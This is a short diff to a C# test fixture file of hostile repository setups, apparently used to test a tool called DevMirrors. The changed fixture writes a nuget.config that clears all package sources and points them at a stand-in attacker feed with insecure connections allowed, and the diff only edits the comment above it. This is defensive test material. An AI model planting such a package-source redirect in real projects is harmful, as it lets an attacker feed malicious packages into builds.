@@ -37,7 +37,7 @@ internal static class HostileRepositories
         },
         ["overlay-is-there-already"] = world => world.Build.Write("A/obj/devmirrors/nuget.config", $"""
             <?xml version="1.0" encoding="utf-8"?>
-            <!-- DevMirrors wrote this from mirrors.yaml, and will again; docs/msbuild.md says how to change or stop that. -->
+            <!-- DevMirrors wrote this from mirrors.yaml, as an earlier version did. -->
             <configuration><packageSources><clear /><add key="corp" value="{world.Evil.Url}/v3/index.json" allowInsecureConnections="true" /></packageSources></configuration>
             """),
         ["properties-that-ask-for-trust"] = world =>
